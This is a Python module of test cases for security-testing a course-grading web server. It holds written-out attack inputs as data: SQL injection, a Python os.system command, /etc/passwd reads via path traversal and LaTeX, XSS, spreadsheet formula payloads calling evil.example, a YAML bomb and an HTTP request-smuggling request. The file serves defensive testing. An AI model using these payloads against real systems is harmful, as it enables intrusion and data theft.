"""The hostile-service corpus of issue #26, as data: each attack on a live `grader serve` is a
:class:`Case` (its family, the request, the status or statuses it must get, and what must hold
afterwards), and :func:`replay` sends one. Used by tests/serve/test_serve_hostile_corpus.py
(every case against a live server, on SQLite and on PostgreSQL) and by
benchmarks/bench_serve.py (4 attackers replaying the corpus while 16 honest learners submit).

Who sends a case: ``who`` is the bearer token's owner (``mallory``, a learner; ``alice``, the
honest learner whose data mallory wants; ``prof``, an instructor), ``None`` for no
Authorization header, or ``"header:<value>"`` for a literal Authorization header. ``page``
sends it as a browser instead: the session cookie of that user (``anon``: none) and a CSRF
value, ``csrf`` = own (this browser's, valid), none, wrong, planted (a valid pair of another
browser, with this session; ``prof`` is an instructor's browser). Placeholders in paths and bodies:
``{alice_sub}``, ``{alice_job}``, ``{alice_answer}`` (reviewed by prof, with ALICE_REVIEW),
``{alice_request}`` (alice's open regrade request, ALICE_SECRET), ``{mallory_answer}`` (with an
open regrade request whose message is XSS), ``{mallory_flood}``, ``{mallory_burst}``,
``{mallory_spare}`` (graded answers of mallory's without a request), made by the harness before
the corpus runs.

The live server runs with :data:`COURSE` (issue #29's assessments): one open, one closed (its due
date in 2000), one not open yet (2999), a timed quiz nobody starts and one whose scores wait for
a release. Far dates, not a clock: the server is a process of its own and reads the system's
clock. :data:`NAMES`: learners whose names are formulas and markup (the exports and pages must
neutralise and escape them).

``pending``: the item of #26 whose branch makes the case pass; the test marks those
``xfail(strict=True)`` (on the backends of ``pending_on``) until the lead merges that branch and
removes the ``pending=`` of its cases.
"""
from __future__ import annotations

import json
import socket
import time
from dataclasses import dataclass, replace
from typing import Any

NO_BODY: Any = object()


HONEST = {"17-08/practice-1": 64}       # alice's answer after each family: right, 1 point (64 = 8 * 8)
HONEST_SCORE = 1

COURSE = """course:
  timezone: UTC
assessments:
  - id: open-hw
    title: Open homework
    problems: [17-08/practice-*]
    opens: 2000-01-01 00:00
    due: 2999-12-31 23:59
    show: immediately
  - id: closed-hw
    title: Closed homework
    problems: [17-08/example-1.*]
    opens: 2000-01-01 00:00
    due: 2000-01-08 00:00
  - id: future-hw
    title: Future homework
    problems: [17-08/example-2.*, 17-08/code-mha]
    opens: 2999-01-01 00:00
    due: 2999-01-08 00:00
  - id: timed-quiz
    title: Timed quiz
    problems: [17-08/quiz-2, 17-08/quiz-3]
    opens: 2000-01-01 00:00
    due: 2999-12-31 23:59
    time_limit: 30 min
  - id: hidden-hw
    title: Hidden homework
    problems: [17-08/example-3.*]
    opens: 2000-01-01 00:00
    due: 2999-12-31 23:59
    show: on_release
"""
ALICE_SECRET = "alice-secret-7f3q"      # alice's regrade request's message
ALICE_REVIEW = "alice-review-9k2w"      # prof's comment on alice's answer
XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
NAMES = {"eve": '=HYPERLINK("http://evil.example/?"&A1,"click")', "oscar": "@SUM(1+1)*cmd|' /C calc'!A0",
         "trudy": "\t=1+1", "victor": "+1+1", "walter": "-1+cmd|' /C calc'!A0", "peggy": XSS}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")      # what a spreadsheet may run (gradebook.csv_safe)


@dataclass(frozen=True)
class Case:
    name: str
    family: str
    method: str
    path: str
    expect: frozenset[int]
    who: str | None = "mallory"
    headers: tuple[tuple[str, str], ...] = ()
    json: Any = NO_BODY
    content: bytes | None = None
    form: tuple[tuple[str, str], ...] | None = None
    files: tuple[tuple[str, str, bytes], ...] | None = None     # (field, filename, content)
    page: str | None = None          # a browser: this user's session cookie ("anon": none)
    csrf: str | None = None          # own | none | wrong | planted
    raw: bytes | None = None         # sent on a socket as is; status 0 = closed without an answer
    action: str | None = None        # a slow-client attack (see hostile_actions in the test)
    repeat: int = 1                  # sent this many times; the last answer is checked
    source: str = "127.0.0.1"        # the client's address (127.0.0.0/8 all reach the server)
    after: tuple[str, ...] = ()      # post-conditions: nothing_stored, retry_after, api_headers, ...
    pending: str | None = None
    pending_on: tuple[str, ...] = ("sqlite", "postgresql")     # the backends where it is pending

    @property
    def id(self) -> str:
        return f"{self.family}/{self.name}"


def S(*codes: int) -> frozenset[int]:
    return frozenset(codes)


def _deep(depth: int) -> bytes:
    return ('{"answers": {"17-08/practice-1": ' + "[" * depth + "1" + "]" * depth + "}}").encode()


SUBMIT = "/api/v1/submissions"
DENIED = S(401, 429)        # a wrong token: refused (429 once failed attempts are throttled)
BAD_LOGINS = ["<script>alert(1)</script>", "=HYPERLINK(\"http://evil\",\"x\")", "a/b", "a\nb", "a\x00b", "../x", ""]


def _batch_file(login: str) -> bytes:
    return json.dumps({"learner": login, "answers": {"17-08/practice-1": 64}}).encode()


CASES: list[Case] = [
    # ------------------------------------------------------------ tokens
    Case("no-token", "tokens", "GET", SUBMIT, S(401), who=None),
    Case("empty-bearer", "tokens", "GET", SUBMIT, DENIED, who=None,
         raw=b"GET /api/v1/submissions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer \r\n\r\n"),
    Case("basic-auth", "tokens", "GET", SUBMIT, DENIED, who="header:Basic YWxpY2U6cGFzcw=="),
    Case("unknown-token", "tokens", "GET", SUBMIT, DENIED, who="header:Bearer grd_" + "A" * 43),
    Case("token-without-prefix", "tokens", "GET", SUBMIT, DENIED, who="header:Bearer " + "A" * 47),
    Case("token-10kB", "tokens", "GET", SUBMIT, S(401, 429, 431, 400), who="header:Bearer grd_" + "A" * 10_000),
    Case("token-sql", "tokens", "GET", SUBMIT, DENIED, who="header:Bearer grd_' OR '1'='1"),
    Case("token-in-query", "tokens", "GET", SUBMIT + "?token=grd_x&access_token=grd_x", S(401), who=None),
    Case("submit-unknown-token", "tokens", "POST", SUBMIT, DENIED, who="header:Bearer grd_" + "B" * 43,
         json={"answers": HONEST}),
    Case("wrong-tokens-throttled", "tokens", "GET", SUBMIT, S(429), who="header:Bearer grd_" + "C" * 43,
         repeat=60, source="127.0.0.9", after=("retry_after",)),
    Case("wrong-logins-throttled", "tokens", "POST", "/learn/login", S(429), who=None, page="anon", csrf="own",
         form=(("token", "grd_" + "D" * 43),), repeat=60, source="127.0.0.10", after=("retry_after",)),
    # ------------------------------------------------------------ other learners' data
    Case("read-alice-submission", "others", "GET", SUBMIT + "/{alice_sub}", S(403, 404)),
    Case("list-alice-submissions", "others", "GET", SUBMIT + "?learner=alice", S(200, 403),
         after=("only_own_listed",)),
    Case("read-alice-job", "others", "GET", "/api/v1/jobs/{alice_job}", S(403, 404)),
    Case("gradebook", "others", "GET", "/api/v1/gradebook", S(403)),
    Case("gradebook-csv", "others", "GET", "/api/v1/gradebook?format=csv", S(403)),
    Case("review-queue", "others", "GET", "/api/v1/review", S(403)),
    Case("review-alice-answer", "others", "POST", "/api/v1/review/{alice_answer}", S(403),
         json={"score": 100, "comment": "mine now"}),
    Case("problem-stats", "others", "GET", "/api/v1/problems/17-08/quiz-1/stats", S(403)),
    Case("regrade", "others", "POST", "/api/v1/regrade", S(403)),
    Case("batch-as-learner", "others", "POST", "/api/v1/batches", S(403),
         files=(("file", "answers.json", _batch_file("alice")),)),
    Case("staff-page-with-bearer", "others", "GET", "/staff", S(303, 401, 403)),
    Case("staff-page-as-learner", "others", "GET", "/staff", S(403), who=None, page="mallory"),
    Case("staff-learner-page", "others", "GET", "/staff/learners/alice", S(403), who=None, page="mallory"),
    Case("staff-csv", "others", "GET", "/staff/gradebook.csv", S(403), who=None, page="mallory"),
    Case("learner-job-page-of-alice", "others", "GET", "/learn/jobs/{alice_job}", S(403, 404), who=None,
         page="mallory"),
    # issue #29's routes: reviews, regrade requests, assessments, statistics, staff pages, view-as
    Case("regrade-request-on-alice-answer", "others", "POST", "/api/v1/answers/{alice_answer}/regrade-request",
         S(403, 404), json={"message": "regrade mine"}, after=("no_alice", "alice_untouched")),
    Case("answer-alice-request", "others", "POST", "/api/v1/regrade-requests/{alice_request}", S(403),
         json={"response": "no", "score": 0}, after=("no_alice", "alice_untouched")),
    Case("my-reviews", "others", "GET", "/api/v1/me/reviews", S(200), after=("no_alice",)),
    Case("my-reviews-of-alice-problem", "others", "GET", "/api/v1/me/reviews?problem=17-08/practice-1", S(200),
         after=("no_alice",)),
    Case("my-reviews-learner-param", "others", "GET", "/api/v1/me/reviews?learner=alice&user_id=1", S(200, 422),
         after=("no_alice",)),
    Case("assessments-list", "others", "GET", "/api/v1/assessments", S(200), after=("no_alice",)),
    Case("assessment-detail", "others", "GET", "/api/v1/assessments/open-hw", S(200), after=("no_alice",)),
    Case("statistics", "others", "GET", "/api/v1/statistics", S(403)),
    Case("statistics-of-assessment", "others", "GET", "/api/v1/statistics?assessment=open-hw", S(403)),
    Case("assessment-gradebook", "others", "GET", "/api/v1/assessments/open-hw/gradebook", S(403)),
    Case("assessment-gradebook-csv", "others", "GET", "/api/v1/assessments/open-hw/gradebook?format=csv", S(403)),
    Case("extensions-list", "others", "GET", "/api/v1/assessments/closed-hw/extensions", S(403)),
    Case("audit-log", "others", "GET", "/api/v1/audit", S(403)),
    *(Case(f"staff-page-{i}", "others", "GET", path, S(403), who=None, page="mallory", after=("no_alice",))
      for i, path in enumerate(["/staff/review", "/staff/review?all=1", "/staff/extensions", "/staff/regrade",
                                "/staff/statistics", "/staff/statistics?assessment=open-hw",
                                "/staff/assessments/open-hw", "/staff/assessments/open-hw/gradebook.csv",
                                "/staff/learners/alice/view", "/staff/learners/alice/view/assessments/open-hw",
                                "/staff/learners/alice/view/exercise/17-08/practice-1", "/staff/audit"])),
    Case("staff-review-with-bearer", "others", "GET", "/staff/review", S(303, 401, 403)),
    Case("view-as-post-as-learner", "others", "POST", "/staff/learners/alice/view/exercise/17-08/practice-1", S(403),
         who=None, page="mallory", csrf="own", form=(("answer", "64"),), after=("alice_untouched",)),
    Case("regrade-form-on-alice-answer", "others", "POST", "/learn/regrade/{alice_answer}", S(403, 404), who=None,
         page="mallory", csrf="own", form=(("message", "mine now"),), after=("no_alice", "alice_untouched")),
    # ------------------------------------------------------------ CSRF (mallory's own session, forged forms)
    Case("form-without-csrf", "csrf", "POST", "/learn/exercise/17-08/practice-1", S(403), who=None,
         page="mallory", csrf="none", form=(("answer", "64"),), after=("nothing_stored",)),
    Case("form-wrong-csrf", "csrf", "POST", "/learn/exercise/17-08/practice-1", S(403), who=None,
         page="mallory", csrf="wrong", form=(("answer", "64"),), after=("nothing_stored",)),
    Case("header-wrong-csrf", "csrf", "POST", "/learn/validate", S(403), who=None, page="mallory", csrf="wrong",
         form=(("problem", "17-08/practice-1"), ("answer", "64"))),
    Case("logout-without-csrf", "csrf", "POST", "/logout", S(403), who=None, page="mallory", csrf="none"),
    Case("regrade-form-as-learner", "csrf", "POST", "/staff/regrade", S(403), who=None, page="mallory",
         csrf="own"),
    Case("own-csrf-accepted", "csrf", "POST", "/learn/validate", S(200), who=None, page="mallory", csrf="own",
         form=(("problem", "17-08/practice-1"), ("answer", "64"))),
    Case("planted-csrf-pair", "csrf", "POST", "/learn/exercise/17-08/practice-1", S(403), who=None,
         page="mallory", csrf="planted", form=(("answer", "64"),), after=("nothing_stored",)),
    # issue #29's forms: a learner's own (regrade request, quiz start) forged; the staff's, by a learner
    *(Case(f"regrade-form-{csrf}-csrf", "csrf", "POST", "/learn/regrade/{mallory_spare}", S(403), who=None,
           page="mallory", csrf=csrf, form=(("message", "forged"),), after=("no_request",))
      for csrf in ("none", "wrong", "planted")),
    *(Case(f"quiz-start-form-{csrf}-csrf", "csrf", "POST", "/learn/assessments/timed-quiz/start", S(403), who=None,
           page="mallory", csrf=csrf, form=(), after=("not_started",)) for csrf in ("none", "wrong", "planted")),
    Case("staff-review-form-as-learner", "csrf", "POST", "/staff/review/{alice_answer}", S(403), who=None,
         page="mallory", csrf="own", form=(("score", "0"), ("comment", "mine")), after=("alice_untouched",)),
    Case("staff-review-form-own-answer", "csrf", "POST", "/staff/review/{mallory_spare}", S(403), who=None,
         page="mallory", csrf="own", form=(("score", "1"),)),
    Case("staff-request-form-as-learner", "csrf", "POST", "/staff/regrade-requests/{alice_request}", S(403),
         who=None, page="mallory", csrf="own", form=(("response", "no"), ("score", "0")),
         after=("alice_untouched",)),
    Case("staff-extension-form-as-learner", "csrf", "POST", "/staff/extensions", S(403), who=None, page="mallory",
         csrf="own", form=(("learner", "mallory"), ("assessment", "closed-hw"), ("due", "2999-01-01T00:00")),
         after=("still_closed",)),
    Case("staff-revoke-form-as-learner", "csrf", "POST", "/staff/extensions/revoke", S(403), who=None,
         page="mallory", csrf="own", form=(("learner", "alice"), ("assessment", "closed-hw"))),
    Case("staff-release-form-as-learner", "csrf", "POST", "/staff/assessments/hidden-hw/release", S(403),
         who=None, page="mallory", csrf="own", form=(), after=("not_released",)),
    Case("staff-extension-form-without-csrf", "csrf", "POST", "/staff/extensions", S(403), who=None, page="prof",
         csrf="none", form=(("learner", "mallory"), ("assessment", "closed-hw"), ("due", "2999-01-01T00:00")),
         after=("still_closed",)),
    Case("staff-revoke-form-without-csrf", "csrf", "POST", "/staff/extensions/revoke", S(403), who=None,
         page="prof", csrf="none", form=(("learner", "alice"), ("assessment", "closed-hw"))),
    Case("staff-release-form-wrong-csrf", "csrf", "POST", "/staff/assessments/hidden-hw/release", S(403),
         who=None, page="prof", csrf="wrong", form=(), after=("not_released",)),
    Case("staff-review-form-planted-csrf", "csrf", "POST", "/staff/review/{alice_answer}", S(403), who=None,
         page="prof", csrf="planted", form=(("score", "0"),), after=("alice_untouched",)),
    Case("staff-request-form-without-csrf", "csrf", "POST", "/staff/regrade-requests/{alice_request}", S(403),
         who=None, page="prof", csrf="none", form=(("response", "no"),), after=("alice_untouched",)),
    # ------------------------------------------------------------ sessions
    Case("forged-cookie", "sessions", "GET", "/learn", S(303, 401), who=None,
         headers=(("Cookie", "grader_session=" + "0" * 64 + ".9999999999." + "0" * 64),)),
    Case("cookie-garbage", "sessions", "GET", "/learn", S(303, 401), who=None,
         headers=(("Cookie", "grader_session=" + "x" * 180),)),
    Case("cookie-expiry-pushed", "sessions", "GET", "/learn", S(303, 401), who=None, page="mallory",
         csrf="extend"),
    Case("cookie-after-logout", "sessions", "GET", "/learn", S(303, 401), who=None, page="mallory",
         csrf="logged-out"),
    Case("bearer-on-pages", "sessions", "GET", "/learn", S(303, 401)),
    # ------------------------------------------------------------ injection
    Case("sql-in-answer", "injection", "POST", SUBMIT, S(201), json={"answers": {
        "17-08/params-formula": "'); DROP TABLE submissions; --"}}, after=("tables_intact",)),
    Case("python-in-answer", "injection", "POST", SUBMIT, S(201, 422), json={"answers": {
        "17-08/params-formula": "__import__('os').system('touch /tmp/grader-pwned')"}}, after=("not_pwned",)),
    Case("lambda-in-validate", "injection", "POST", "/api/v1/validate", S(200, 422), json={
        "problem": "17-08/params-formula", "answer": "(lambda: __import__('os'))()"}, after=("not_pwned",)),
    Case("latex-input-file", "injection", "POST", "/api/v1/validate", S(200, 422), json={
        "problem": "17-08/params-formula", "answer": "\\input{/etc/passwd}"}, after=("no_passwd",)),
    Case("power-tower", "injection", "POST", SUBMIT, S(201, 422), json={"answers": {
        "17-08/params-formula": "9^9^9^9^9^9"}}),
    Case("complex-intermediate", "injection", "POST", "/api/v1/validate", S(200, 422), json={
        "problem": "17-08/params-formula", "answer": "2^((-1)^log(2))"}),
    Case("path-traversal-problem", "injection", "GET", "/api/v1/exercises/..%2F..%2Fetc%2Fpasswd", S(404, 422),
         after=("no_passwd",)),
    Case("problem-id-sql", "injection", "POST", SUBMIT, S(201, 404, 422),
         json={"answers": {"17-08/x' OR 1=1 --": "1"}}, after=("scored_nothing",)),
    Case("learner-query-sql", "injection", "GET", SUBMIT + "?learner=alice'%20OR%20'1'='1", S(200, 403),
         after=("only_own_listed",)),
    Case("html-idempotency-key", "injection", "POST", SUBMIT, S(201), headers=(("Idempotency-Key", "<b>x</b>"),),
         json={"answers": {"17-08/practice-1": 63}}),
    # ------------------------------------------------------------ bad bodies
    Case("not-json", "bodies", "POST", SUBMIT, S(400, 422), content=b"{answers: 64",
         headers=(("Content-Type", "application/json"),), after=("nothing_stored",)),
    Case("text-plain", "bodies", "POST", SUBMIT, S(415, 422), content=b'{"answers": {"17-08/practice-1": 64}}',
         headers=(("Content-Type", "text/plain"),), after=("nothing_stored",)),
    Case("top-level-list", "bodies", "POST", SUBMIT, S(422), json=[1, 2], after=("nothing_stored",)),
    Case("answers-a-string", "bodies", "POST", SUBMIT, S(422), json={"answers": "64"}, after=("nothing_stored",)),
    Case("no-answers", "bodies", "POST", SUBMIT, S(422), json={"answers": {}}, after=("nothing_stored",)),
    Case("unknown-problem", "bodies", "POST", SUBMIT, S(201, 404, 422), json={"answers": {"nope/1": 1}},
         after=("scored_nothing",)),
    Case("null-answer", "bodies", "POST", SUBMIT, S(201, 422), json={"answers": {"17-08/practice-1": None}}),
    Case("501-answers", "bodies", "POST", SUBMIT, S(404, 413, 422),
         json={"answers": {f"17-08/p{i}": 1 for i in range(501)}}, after=("nothing_stored",)),
    Case("nan", "bodies", "POST", SUBMIT, S(201, 400, 422), content=b'{"answers": {"17-08/practice-1": NaN}}',
         headers=(("Content-Type", "application/json"),)),
    Case("huge-number", "bodies", "POST", SUBMIT, S(201, 400, 422),
         content=b'{"answers": {"17-08/practice-1": 1e999999}}', headers=(("Content-Type", "application/json"),)),
    Case("long-digits", "bodies", "POST", SUBMIT, S(201, 400, 422),
         content=b'{"answers": {"17-08/practice-1": ' + b"9" * 100_000 + b"}}",
         headers=(("Content-Type", "application/json"),)),
    Case("deep-300", "bodies", "POST", SUBMIT, S(400, 422), content=_deep(300),
         headers=(("Content-Type", "application/json"),), after=("nothing_stored",)),
    Case("deep-100000", "bodies", "POST", SUBMIT, S(400, 413, 422), content=_deep(100_000),
         headers=(("Content-Type", "application/json"),), after=("nothing_stored",)),
    Case("deep-validate", "bodies", "POST", "/api/v1/validate", S(400, 422),
         content=b'{"problem": "17-08/practice-1", "answer": ' + b"[" * 300 + b"1" + b"]" * 300 + b"}",
         headers=(("Content-Type", "application/json"),)),
    Case("wide-list", "bodies", "POST", SUBMIT, S(400, 413, 422),
         json={"answers": {"17-08/practice-1": list(range(100_000))}}, after=("nothing_stored",)),
    Case("body-2MB", "bodies", "POST", SUBMIT, S(413), content=b'{"answers": "' + b"x" * (2 << 20) + b'"}',
         headers=(("Content-Type", "application/json"),), after=("nothing_stored",)),
    Case("body-2MB-chunked", "bodies", "POST", SUBMIT, S(413), content=b"chunked:" + b"x" * (2 << 20),
         headers=(("Content-Type", "application/json"),), after=("nothing_stored",)),
    Case("content-length-not-a-number", "bodies", "POST", SUBMIT, S(0, 400), raw=(
        b"POST /api/v1/submissions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: lots\r\n\r\n{}")),
    Case("idempotency-key-control", "bodies", "POST", SUBMIT, S(400, 422),
         headers=(("Idempotency-Key", "a\x7fb"),), json={"answers": HONEST}, after=("nothing_stored",)),
    Case("idempotency-key-long", "bodies", "POST", SUBMIT, S(400, 422),
         headers=(("Idempotency-Key", "k" * 201),), json={"answers": HONEST}, after=("nothing_stored",)),
    # issue #29's JSON routes
    *(Case(f"regrade-request-{name}", "bodies", "POST", "/api/v1/answers/{mallory_spare}/regrade-request",
           expect, after=("no_request",), **kw) for name, expect, kw in [
        ("not-json", S(400, 422), {"content": b"{message: x", "headers": (("Content-Type", "application/json"),)}),
        ("empty", S(422), {"json": {"message": ""}}),
        ("no-message", S(422), {"json": {}}),
        ("message-a-list", S(422), {"json": {"message": ["a"]}}),
        ("message-5001", S(422), {"json": {"message": "m" * 5001}}),
        ("message-nul", S(422), {"json": {"message": "a\x00b"}}),
        ("extra-field", S(422), {"json": {"message": "x", "user_id": 1}}),
        ("deep-300", S(400, 422), {"content": b'{"message": ' + b"[" * 300 + b"1" + b"]" * 300 + b"}",
                                  "headers": (("Content-Type", "application/json"),)}),
        ("deep-100000", S(400, 413, 422), {"content": b'{"message": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
                                         "headers": (("Content-Type", "application/json"),)}),
        ("body-2MB", S(413), {"content": b'{"message": "' + b"x" * (2 << 20) + b'"}',
                              "headers": (("Content-Type", "application/json"),)})]),
    *(Case(f"review-{name}", "bodies", "POST", "/api/v1/review/{alice_answer}", expect, who="prof",
           after=("alice_untouched",), **kw) for name, expect, kw in [
        ("score-text", S(422), {"json": {"score": "all"}}),
        ("score-negative", S(422), {"json": {"score": -1}}),
        ("score-over-points", S(422), {"json": {"score": 1000}}),
        ("score-infinite", S(400, 422), {"content": b'{"score": 1e999}', "headers": (("Content-Type", "application/json"),)}),
        ("score-nan", S(400, 422), {"content": b'{"score": NaN}', "headers": (("Content-Type", "application/json"),)}),
        ("comment-nul", S(422), {"json": {"score": 0, "comment": "a\x00b"}}),
        ("comment-10001", S(422), {"json": {"score": 0, "comment": "c" * 10_001}}),
        ("rubric-21", S(422), {"json": {"rubric": ["x"] * 21}}),
        ("rubric-unknown", S(422), {"json": {"rubric": ["<script>"]}}),
        ("deep", S(400, 422), {"content": b'{"rubric": ' + b"[" * 300 + b"]" * 300 + b"}",
                               "headers": (("Content-Type", "application/json"),)})]),
    *(Case(f"request-answer-{name}", "bodies", "POST", "/api/v1/regrade-requests/{alice_request}", expect,
           who="prof", after=("alice_untouched",), **kw) for name, expect, kw in [
        ("no-response", S(422), {"json": {"score": 0}}),
        ("response-nul", S(422), {"json": {"response": "a\x00b", "score": 0}}),
        ("score-infinite", S(400, 422), {"content": b'{"response": "x", "score": 1e999}',
                                         "headers": (("Content-Type", "application/json"),)})]),
    *(Case(f"extension-{name}", "bodies", "POST", "/api/v1/assessments/closed-hw/extensions", expect, who="prof",
           after=("still_closed",), **kw) for name, expect, kw in [
        ("due-not-a-time", S(422), {"json": {"learner": "mallory", "due": "tomorrow"}}),
        ("due-past-the-last-year", S(422), {"json": {"learner": "mallory", "due": "9999-12-31T23:59:59-23:59"}}),
        ("due-before-the-first-year", S(422), {"json": {"learner": "mallory", "due": "0001-01-01T00:00+23:59"}}),
        ("due-a-number", S(422), {"json": {"learner": "mallory", "due": 1e300}}),
        ("reason-nul", S(422), {"json": {"learner": "mallory", "due": "2999-01-01T00:00Z", "reason": "a\x00"}}),
        ("learner-nul", S(404, 422), {"json": {"learner": "mall\x00ory", "due": "2999-01-01T00:00Z"}}),
        ("learner-unknown", S(404), {"json": {"learner": "nobody", "due": "2999-01-01T00:00Z"}}),
        ("learner-an-instructor", S(404, 422), {"json": {"learner": "prof", "due": "2999-01-01T00:00Z"}}),
        ("extra-field", S(422), {"json": {"learner": "mallory", "due": "2999-01-01T00:00Z", "role": "instructor"}}),
        ("top-level-list", S(400, 422), {"json": [1]})]),
    Case("revoke-learner-nul", "bodies", "DELETE", "/api/v1/assessments/closed-hw/extensions?learner=a%00b",
         S(404, 422), who="prof"),
    # ------------------------------------------------------------ query ranges
    *(Case(f"submissions-{q.split('=')[0]}-{i}", "queries", "GET", f"{SUBMIT}?{q}", S(422), who="prof")
      for i, q in enumerate(["offset=99999999999999999999", f"offset={2**63}", "offset=-1", "offset=abc",
                             "limit=0", "limit=99999999999999999999", "limit=1001", "learner=" + "x" * 500])),
    Case("jobs-limit-huge", "queries", "GET", f"/api/v1/jobs?limit={2**64}", S(422)),
    Case("review-limit-negative", "queries", "GET", "/api/v1/review?limit=-5", S(422), who="prof"),
    Case("gradebook-format", "queries", "GET", "/api/v1/gradebook?format=xlsx", S(422), who="prof"),
    Case("submission-id-long", "queries", "GET", SUBMIT + "/" + "a" * 5000, S(404, 414, 422)),
    Case("largest-offset", "queries", "GET", f"{SUBMIT}?offset={2**31 - 1}", S(200), who="prof"),
    Case("my-reviews-problem-long", "queries", "GET", "/api/v1/me/reviews?problem=" + "p" * 201, S(422)),
    Case("my-reviews-problem-nul", "queries", "GET", "/api/v1/me/reviews?problem=a%00b", S(200, 422)),
    Case("review-limit-huge", "queries", "GET", f"/api/v1/review?limit={2**64}", S(422), who="prof"),
    Case("statistics-unknown-assessment", "queries", "GET", "/api/v1/statistics?assessment=nope", S(404, 422),
         who="prof"),
    Case("assessment-gradebook-format", "queries", "GET", "/api/v1/assessments/open-hw/gradebook?format=xlsx",
         S(422), who="prof"),
    Case("assessment-id-long", "queries", "GET", "/api/v1/assessments/" + "a" * 5000, S(404, 414, 422)),
    Case("assessment-id-nul", "queries", "GET", "/api/v1/assessments/a%00b", S(404, 422)),
    *(Case(f"request-id-{i}", "queries", "POST", f"/api/v1/regrade-requests/{n}", S(404, 422), who="prof",
           json={"response": "x"}) for i, n in enumerate([2**31, 2**63, 99999999999999999999, -1, 0, "abc"])),
    Case("request-id-huge-page", "queries", "POST", f"/staff/regrade-requests/{2**63}", S(404, 422), who=None,
         page="prof", csrf="own", form=(("response", "x"),)),
    Case("answer-id-nul", "queries", "POST", "/api/v1/answers/a%00b/regrade-request", S(404, 422),
         json={"message": "x"}),
    Case("submission-id-nul", "queries", "GET", SUBMIT + "/a%00b", S(404, 422)),
    Case("staff-review-anonymous-text", "queries", "GET", "/staff/review?anonymous=yes", S(200, 400, 422), who=None,
         page="prof"),
    Case("staff-book-sort-unknown", "queries", "GET", "/staff/assessments/open-hw?sort=__class__&order=sideways",
         S(200, 422), who=None, page="prof"),
    Case("staff-statistics-sort-markup", "queries", "GET", "/staff/statistics?sort=%3Cscript%3E&order=%3Cb%3E",
         S(200, 422), who=None, page="prof", after=("no_raw_markup",)),
    # ------------------------------------------------------------ uploads and batches
    *(Case(f"batch-learner-{i}", "uploads", "POST", "/api/v1/batches", S(202, 422), who="prof",
           files=(("file", "answers.json", _batch_file(login)),), after=("job_settles", "no_bad_login"))
      for i, login in enumerate(BAD_LOGINS)),
    Case("batch-filename-traversal", "uploads", "POST", "/api/v1/batches", S(202, 422), who="prof",
         files=(("file", "../../../tmp/evil.json", _batch_file("alice")),), after=("job_settles",)),
    Case("batch-yaml-bomb", "uploads", "POST", "/api/v1/batches", S(202, 413, 422), who="prof",
         files=(("file", "bomb.yaml", b"a: &a [1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
                                      b"c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
                                      b"e: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"),), after=("job_settles",)),
    Case("batch-17MB", "uploads", "POST", "/api/v1/batches", S(413), who="prof",
         files=(("file", "big.json", b" " * (17 << 20)),)),
    Case("code-filename-traversal", "uploads", "POST", "/api/v1/code-submissions", S(202),
         form=(("problem", "17-08/code-add"),), files=(("file", "../../../../tmp/x.py", b"def add(a, b):\n    return 0\n"),),
         after=("job_settles",)),
    Case("code-not-utf8", "uploads", "POST", "/api/v1/code-submissions", S(202, 422),
         form=(("problem", "17-08/code-add"),), files=(("file", "s.py", b"\xff\xfe\x00def"),), after=("job_settles",)),
    Case("code-empty", "uploads", "POST", "/api/v1/code-submissions", S(422),
         form=(("problem", "17-08/code-add"),), files=(("file", "s.py", b""),)),
    Case("code-2MB", "uploads", "POST", "/api/v1/code-submissions", S(413),
         form=(("problem", "17-08/code-add"),), files=(("file", "s.py", b"#" * (2 << 20)),)),
    Case("code-for-a-quiz", "uploads", "POST", "/api/v1/code-submissions", S(422),
         form=(("problem", "17-08/quiz-1"),), files=(("file", "s.py", b"x = 1\n"),)),
    Case("code-unknown-problem", "uploads", "POST", "/api/v1/code-submissions", S(404),
         form=(("problem", "../../etc/passwd"),), files=(("file", "s.py", b"x = 1\n"),)),
    # ------------------------------------------------------------ slow and idle clients
    Case("idle-connections", "slow", "GET", "/", S(0), action="idle_connections"),
    Case("slow-headers-cut-off", "slow", "GET", "/", S(0), action="slow_headers"),
    Case("slow-body-cut-off", "slow", "POST", SUBMIT, S(0), action="slow_body"),
    # ------------------------------------------------------------ headers
    Case("api-security-headers", "headers", "GET", "/api/v1/exercises", S(200), after=("api_headers",)),
    Case("error-security-headers", "headers", "GET", "/api/v1/jobs/nope", S(404), after=("api_headers",)),
    Case("header-100kB", "headers", "GET", "/healthz", S(0, 200, 400, 431), who=None, raw=(
        b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 100_000 + b"\r\n\r\n")),
    Case("te-and-cl", "headers", "POST", SUBMIT, S(0, 400, 401), who=None, raw=(
        b"POST /api/v1/submissions HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"0\r\n\r\nGET /api/v1/gradebook HTTP/1.1\r\nHost: x\r\n\r\n")),
    Case("bad-host", "headers", "GET", "/healthz", S(200, 400), who=None, headers=(("Host", "evil.example"),)),
    Case("forwarded-for-spoof", "headers", "GET", SUBMIT, S(401), who=None,
         headers=(("X-Forwarded-For", "10.0.0.1"), ("X-Real-IP", "10.0.0.1"))),
    Case("many-headers", "headers", "GET", "/healthz", S(0, 200, 400, 431), who=None,
         headers=tuple((f"X-H{i}", "v") for i in range(500))),
    # ------------------------------------------------------------ assessments' windows (COURSE)
    Case("submit-closed", "course", "POST", SUBMIT, S(409), json={"answers": {"17-08/example-1.d_k": 64}},
         after=("nothing_stored",)),
    Case("submit-not-open", "course", "POST", SUBMIT, S(409), json={"answers": {"17-08/example-2.params": 64}},
         after=("nothing_stored",)),
    Case("submit-not-started", "course", "POST", SUBMIT, S(409), json={"answers": {"17-08/quiz-2": "a"}},
         after=("nothing_stored", "not_started")),
    Case("submit-open-with-closed", "course", "POST", SUBMIT, S(409),
         json={"answers": {"17-08/practice-1": 64, "17-08/example-1.d_k": 64}}, after=("nothing_stored",)),
    Case("submit-closed-idempotency-key", "course", "POST", SUBMIT, S(409), headers=(("Idempotency-Key", "late-1"),),
